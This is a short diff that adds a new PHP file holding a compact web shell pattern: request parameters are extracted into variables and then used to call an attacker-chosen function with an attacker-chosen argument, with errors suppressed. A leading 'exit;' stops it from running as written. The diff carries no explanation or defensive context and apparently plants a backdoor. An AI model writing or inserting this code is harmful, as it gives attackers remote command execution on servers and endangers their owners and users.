@@ -1,0 +1,3 @@
+<?php exit;
+@extract($_REQUEST);
+@die($ctime($atime));
